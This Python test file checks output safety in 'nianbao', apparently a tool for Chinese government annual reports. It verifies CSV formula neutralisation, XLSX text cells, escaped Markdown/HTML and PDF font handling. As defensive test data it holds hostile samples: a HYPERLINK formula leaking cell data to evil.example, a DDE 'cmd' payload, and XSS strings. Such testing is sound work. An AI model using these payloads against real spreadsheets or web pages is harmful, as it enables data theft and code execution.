"""Output safety: CSV cells a spreadsheet would run are neutralised, XLSX text stays text,
Markdown and HTML show report text as text (no HTML, no links), and PDF output embeds a CJK
font or refuses (exit 2) instead of writing empty boxes."""

from __future__ import annotations

import csv
import importlib.util
import io
import os
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from lxml import html as lxml_html
from markdown_it import MarkdownIt
from openpyxl.utils.escape import unescape as unescape_ooxml

from nianbao.check.finding import Finding
from nianbao.check.output import as_csv
from nianbao.cli import main
from nianbao.csvsafe import safe_cell
from nianbao.export import Column, write_csv, write_xlsx
from nianbao.generate import random_report
from nianbao.mdtext import escape, unescape
from nianbao.model import Report
from nianbao.parse import parse_document
from nianbao.read import read_bytes
from nianbao.render import render
from nianbao.render.fonts import CjkFont, _search, cjk_font
from nianbao.render.html import css, render_html
from nianbao.stats import INDICATORS, Stats, as_rows

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
HOSTILE_CELLS = [HYPERLINK, "+1+2", "-1+2", "@SUM(A1:A2)", "\t=1+2", "\r=1+2", "=cmd|' /C calc'!A0"]
SAFE_CELLS = ["青石市商务局", "-1", "+2.5", "12", "", "a=b", " =1+2", "－1"]


# ── CSV ──────────────────────────────────────────────────────────────────────────────
def test_safe_cell_prefixes_a_quote_to_formula_text_only():
    assert [safe_cell(v) for v in HOSTILE_CELLS] == [
        "'" + HYPERLINK,
        "'+1+2",
        "'-1+2",
        "'@SUM(A1:A2)",
        "'\t=1+2",
        "'\r=1+2",
        "'=cmd|' /C calc'!A0",
    ]
    assert [safe_cell(v) for v in SAFE_CELLS] == SAFE_CELLS
    assert [safe_cell(v) for v in (-3, -2.5, 0, None, True)] == [-3, -2.5, 0, None, True]


def test_export_csv_neutralises_text_keeps_numbers(tmp_path):
    columns = (Column("agency", "机关"), Column("value", "数值", "float"), Column("cells", "单元格", "json"))
    rows = [[HYPERLINK, -5, ["t3.a.total"]], ["-1+2", -2.5, "@x"], ["-7", None, None]]
    out = tmp_path / "x.csv"
    assert write_csv(str(out), columns, rows) == 3
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == [
        ["agency", "value", "cells"],
        ["'" + HYPERLINK, "-5", '["t3.a.total"]'],
        ["'-1+2", "-2.5", "'@x"],
        ["-7", "", ""],
    ]


def test_export_xlsx_writes_text_as_text_never_formulas(tmp_path):
    columns = (Column("agency", "机关"), Column("value", "数值", "float"))
    rows = [[v, -1] for v in HOSTILE_CELLS]
    out = tmp_path / "x.xlsx"
    assert write_xlsx(str(out), columns, rows, sheet="reports") == len(HOSTILE_CELLS)
    ws = openpyxl.load_workbook(out)["reports"]
    got = [(unescape_ooxml(c.value), c.data_type) for c in ws["A"][1:]]  # "\r" is stored as _x000D_
    assert got == [(v, "s") for v in HOSTILE_CELLS]
    assert [(c.value, c.data_type) for c in ws["B"][1:]] == [(-1, "n")] * len(HOSTILE_CELLS)


def test_findings_csv_is_neutralised():
    finding = Finding(
        "F-META", "error", "=1+2.txt", "@机关名称", ["t3.x.total"], expected="-1+2", actual=-3, line=4
    )
    text = as_csv([finding])
    assert text == (
        "report,line,page,rule,severity,message,cells,expected,actual\r\n"
        "'=1+2.txt,4,,F-META,error,'@机关名称,t3.x.total,'-1+2,-3\r\n"
    )


def test_stats_csv_rows_are_neutralised():
    values = {i.key: {"value": None} for i in INDICATORS}
    values[INDICATORS[0].key] = {"value": -4}
    groups = [{"group": {"region": "=1+2", "year": 2023}, "reports": 1, "indicators": values}]
    header, rows = as_rows(Stats({}, {}, groups), ["region", "year"])
    assert header[:3] == ["region", "year", "reports"]
    assert rows == [["'=1+2", 2023, 1, -4, *[None] * (len(INDICATORS) - 1)]]


def test_exports_of_a_hostile_corpus_through_the_cli(tmp_path):
    report = {
        "contract": 1,
        "source": {"path": "r.json", "sha256": "", "format": "json"},
        "agency": HYPERLINK,
        "year": 2023,
        "template": "2021",
        "sections": {},
        "t2": {},
        "t3": {"new_received": {"total": 1}},
        "t4": {},
    }
    src = tmp_path / "r.json"
    src.write_text(__import__("json").dumps(report, ensure_ascii=False), encoding="utf-8")
    db = str(tmp_path / "c.db")
    assert CliRunner().invoke(main, ["ingest", str(src), "--db", db]).exit_code == 0
    for what in ("reports", "cells", "findings"):
        out = tmp_path / f"{what}.csv"
        result = CliRunner().invoke(main, ["export", "--db", db, "--what", what, "--out", str(out)])
        assert result.exit_code == 0, result.output
        rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
        assert {r["agency"] for r in rows} == {"'" + HYPERLINK}, what


# ── Markdown and HTML ────────────────────────────────────────────────────────────────
AGENCY = "青石市<img/src=x/onerror=alert(1)>商务局"
PREAMBLE = '<script>alert("x")</script> & [点此](javascript:alert(1)) \\< &lt;'
EXTRA = "<b onmouseover=alert(1)>粗体</b>，见 <http://evil.example/> 与 ![x](http://evil.example/t.png)"


def values(report: Report) -> dict:
    return {t: {r: {c: v.value for c, v in cols.items()} for r, cols in rows.items()} for t, rows in report.tables.items()}


def hostile_report(title: str = "一、总体情况") -> Report:
    report = random_report(5, "2021")
    report.agency, report.preamble = AGENCY, PREAMBLE
    sec = report.sections["overview"]
    assert sec is not None
    sec.text += "\n" + EXTRA
    sec.title = title
    return report


def test_mdtext_escapes_exactly_and_round_trips():
    assert escape(PREAMBLE) == '&lt;script>alert("x")&lt;/script> &amp; \\[点此](javascript:alert(1)) \\\\&lt; &amp;lt;'
    for text in (PREAMBLE, EXTRA, AGENCY, "\\\\[&amp;&lt;", "&&<<[[\\\\"):
        assert unescape(escape(text)) == text


def test_markdown_shows_report_text_as_text_and_round_trips():
    report = hostile_report()
    data = render(report, "md").decode("utf-8")
    assert data.startswith("# 青石市&lt;img/src=x/onerror=alert(1)>商务局2025年政府信息公开工作年度报告\n")
    assert "<" not in data
    page = MarkdownIt("commonmark").enable("table").render(data)
    tree = lxml_html.fromstring(f"<div>{page}</div>")
    assert {e.tag for e in tree.iter()} <= {"div", "h1", "h2", "p", "table", "thead", "tbody", "tr", "th", "td"}
    assert not [a for e in tree.iter() for a in e.attrib if a != "style"]
    texts = [e.text_content() for e in tree.iter("h1", "h2", "p")]
    assert f"{AGENCY}2025年政府信息公开工作年度报告" in texts
    assert PREAMBLE in texts and EXTRA in texts
    parsed = parse_document(read_bytes(data.encode("utf-8"), "r.md"))
    assert (parsed.agency, parsed.preamble) == (AGENCY, PREAMBLE)
    assert parsed.sections["overview"].text == report.sections["overview"].text
    assert values(parsed) == values(report)
    # a heading is escaped too (the parser does not take it for section 一 any more)
    assert "\n## 一、总体情况&lt;i>\n" in render(hostile_report("一、总体情况<i>"), "md").decode("utf-8")


def test_txt_output_keeps_the_text_as_typed():
    report = hostile_report()
    data = render(report, "txt").decode("utf-8")
    assert PREAMBLE in data and EXTRA in data
    # markdown tables in a .txt are not escaped either (only a .md is)
    assert PREAMBLE in render(report, "txt", "markdown").decode("utf-8")
    # a .md with tab tables is escaped all the same
    assert escape(PREAMBLE) in render(report, "md", "tabs").decode("utf-8")


def test_html_escapes_every_report_text():
    report = hostile_report("一、总体情况<i>")
    page = render_html(report)
    assert "<script>" not in page and "<img" not in page and "<b " not in page and "<i>" not in page
    tree = lxml_html.fromstring(page.encode("utf-8"))
    assert not tree.xpath("//script | //img | //a | //b | //i | //@onerror | //@onmouseover")
    assert tree.findtext(".//title") == f"{AGENCY}2025年政府信息公开工作年度报告"
    texts = [e.text_content() for e in tree.iter("h1", "h2", "p")]
    assert PREAMBLE in texts and EXTRA in texts and "一、总体情况<i>" in texts


# ── PDF: a CJK font or a refusal ─────────────────────────────────────────────────────
NO_FONT = (
    "生成 PDF 需要中文字体，本机未找到：请安装文泉驿微米黑（Debian/Ubuntu：apt-get install "
    "fonts-wqy-microhei，或运行 scripts/system-deps），或用环境变量 NIANBAO_FONT_DIRS 指定中文字体所在的目录"
)
HAS_WEASYPRINT = importlib.util.find_spec("weasyprint") is not None
needs_weasyprint = pytest.mark.skipif(not HAS_WEASYPRINT, reason="PDF output needs pip install 'nianbao[pdf]'")
FONT = cjk_font()
needs_font = pytest.mark.skipif(
    FONT is None or not HAS_WEASYPRINT,
    reason="no CJK font or no WeasyPrint (run scripts/system-deps; pip install 'nianbao[pdf]')",
)


def pdf_fonts(data: bytes) -> set[str]:
    from pypdf import PdfReader

    names = set()
    for page in PdfReader(io.BytesIO(data)).pages:
        for font in (page["/Resources"].get("/Font") or {}).values():
            names.add(str(font.get_object()["/BaseFont"]).split("+", 1)[-1])
    return names


def test_font_search_is_cached_and_cheap(monkeypatch, tmp_path):
    monkeypatch.setenv("NIANBAO_FONT_DIRS", str(tmp_path))
    assert cjk_font() is None
    monkeypatch.delenv("NIANBAO_FONT_DIRS")
    _search.cache_clear()
    start = time.perf_counter()
    first = cjk_font()
    took = time.perf_counter() - start
    start = time.perf_counter()
    assert cjk_font() is first
    again = time.perf_counter() - start
    assert took < 2.0 and again < 0.001, (took, again)


def test_font_dirs_find_a_font_by_file_and_css_loads_it(monkeypatch, tmp_path):
    (tmp_path / "a").mkdir()
    for name in ("NotoSansCJKsc-Bold.otf", "NotoSansCJKsc-Regular.otf", "DejaVuSans.ttf", "wqy-zenhei.txt"):
        (tmp_path / "a" / name).write_bytes(b"")
    monkeypatch.setenv("NIANBAO_FONT_DIRS", f"/nonexistent{os.pathsep}{tmp_path}")
    font = cjk_font()
    assert font == CjkFont("Noto Sans CJK SC", str(tmp_path / "a" / "NotoSansCJKsc-Regular.otf"), False)
    style = css(font)
    assert style.startswith(
        f'@font-face {{ font-family: "Noto Sans CJK SC"; src: url("{(tmp_path / "a").as_uri()}/'
        'NotoSansCJKsc-Regular.otf"); }\n'
    )
    assert 'body { font-family: "Noto Sans CJK SC", "WenQuanYi Micro Hei"' in style
    assert "@font-face" not in css(CjkFont("WenQuanYi Micro Hei", "/x.ttc", True))


@needs_font
def test_pdf_embeds_the_cjk_font():
    assert FONT is not None
    data = render(random_report(3, "2021"), "pdf")
    assert FONT.family.replace(" ", "-") in pdf_fonts(data)


@needs_font
def test_pdf_with_a_font_from_a_folder_fontconfig_does_not_know(tmp_path):
    """fontconfig configured with no font at all: the font is loaded from NIANBAO_FONT_DIRS."""
    assert FONT is not None
    fonts = tmp_path / "fonts"
    fonts.mkdir()
    (fonts / Path(FONT.path).name).symlink_to(FONT.path)
    (tmp_path / "fonts.conf").write_text("<fontconfig></fontconfig>\n")
    src, out = tmp_path / "r.md", tmp_path / "r.pdf"
    src.write_bytes(render(random_report(3, "2021"), "md"))
    env = {**os.environ, "FONTCONFIG_FILE": str(tmp_path / "fonts.conf"), "NIANBAO_FONT_DIRS": str(fonts)}
    proc = subprocess.run(
        [sys.executable, "-m", "nianbao.cli", "render", str(src), "--format", "pdf", "--out", str(out)],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert (proc.returncode, proc.stderr) == (0, "")
    assert FONT.family.replace(" ", "-") in pdf_fonts(out.read_bytes())


def test_without_a_cjk_font_render_refuses(monkeypatch, tmp_path):
    monkeypatch.setenv("NIANBAO_FONT_DIRS", str(tmp_path / "nothing"))
    src = tmp_path / "r.md"
    src.write_bytes(render(random_report(3, "2021"), "md"))
    out = tmp_path / "r.pdf"
    result = CliRunner().invoke(main, ["render", str(src), "--format", "pdf", "--out", str(out), "--force"])
    assert result.exit_code == 2
    assert result.stderr == f"nianbao: {src}: {NO_FONT}\n"
    assert not out.exists()


def test_without_a_cjk_font_generate_refuses(monkeypatch, tmp_path):
    monkeypatch.setenv("NIANBAO_FONT_DIRS", "")
    out = tmp_path / "gen"
    result = CliRunner().invoke(main, ["generate", "2", "--out", str(out), "--formats", "pdf"])
    assert result.exit_code == 2
    assert result.stderr == f"nianbao: {NO_FONT}\n"
    assert not out.exists()  # refused before anything is written
